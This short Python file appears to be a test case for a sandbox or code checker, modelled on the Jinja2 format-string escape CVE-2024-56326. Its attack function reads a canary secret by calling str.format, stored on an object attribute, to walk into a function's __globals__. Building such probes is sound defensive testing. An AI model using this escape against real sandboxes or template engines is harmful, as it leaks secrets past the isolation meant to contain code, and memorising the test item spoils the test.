"""Class: format strings. Source: CVE-2024-56326 (Jinja2), in kind. Escape: format stored on an
object of one's own and called from there.
"""

SECRET = "canary-" + "5d1f"


class Holder:
    def __init__(self):
        self.run = "{0.__globals__[SECRET]}".format


def attack(model, tokenizer, address):
    return Holder().run(attack)
